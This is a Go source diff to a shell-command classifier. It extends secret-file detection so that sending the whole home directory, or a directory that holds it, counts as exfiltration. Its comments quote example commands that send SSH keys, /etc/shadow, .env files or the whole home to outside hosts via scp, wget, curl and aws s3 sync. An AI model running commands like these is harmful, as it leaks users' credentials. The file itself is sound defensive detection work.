@@ -7,7 +7,8 @@ import (
 
 // judgeSecret is [secret]: a word that certainly names a file of secrets
 // for a program to send: a credentials path, a directory below the home
-// that holds one (~/.aws, ~/.config), or a dotenv file (.env, .env.prod;
+// that holds one (~/.aws, ~/.config), the home or a directory holding it
+// (sent whole, it sends them all), or a dotenv file (.env, .env.prod;
 // not .env.example), written alone (`scp ~/.ssh/id_ed25519 h:`,
 // `wget --post-file=/etc/shadow`) or after curl's `@` (`-F f=@~/.ssh/id`,
 // `-d @.env`), where a `~/` is read as the home although bash leaves it.
@@ -54,7 +55,7 @@ func judgeSecretFile(w Word, ctx *Context) Judgement {
 	if !ok || p.any {
 		return Judgement{}
 	}
-	if isDotenv(path.Base(v)) || holdsHomeCredential(v, ctx.Home) || procEnviron(v) || secretByName(v, ctx.Home) {
+	if isDotenv(path.Base(v)) || holdsHomeCredential(v, ctx.Home) || holdsHome(v, ctx.Home) || procEnviron(v) || secretByName(v, ctx.Home) {
 		return Judgement{Might: true, Certainly: true}
 	}
 	return Judgement{}
@@ -86,8 +87,7 @@ func isDotenv(base string) bool {
 
 // holdsHomeCredential reports whether the absolute path p is a directory
 // strictly below the home that holds one of its credentials paths
-// (~/.aws holds ~/.aws/credentials). The home itself is not counted: a
-// backup of the home is everyday.
+// (~/.aws holds ~/.aws/credentials). The home itself is holdsHome's.
 func holdsHomeCredential(p, home string) bool {
 	home = strings.TrimSuffix(home, "/")
 	if home == "" || !within(p, home) || p == home {
@@ -99,6 +99,17 @@ func holdsHomeCredential(p, home string) bool {
 		}
 	}
 	return false
+}
+
+// holdsHome reports whether the absolute path p is the home or a
+// directory holding it (/home, /): sent whole, it sends ~/.ssh, ~/.aws
+// and every other credential with it (b7a: `aws s3 sync ~ s3://b`,
+// `scp -r ~ h:`, `docker build ~`). A backup of the home kept on this
+// machine (`tar czf /tmp/h.tgz ~`) sends nothing and is left alone; only
+// what a sender sends reads this class.
+func holdsHome(p, home string) bool {
+	home = strings.TrimSuffix(home, "/")
+	return home != "" && within(home, p)
 }
 
 // judgeSocket is [socket]: a path bash opens as a network connection
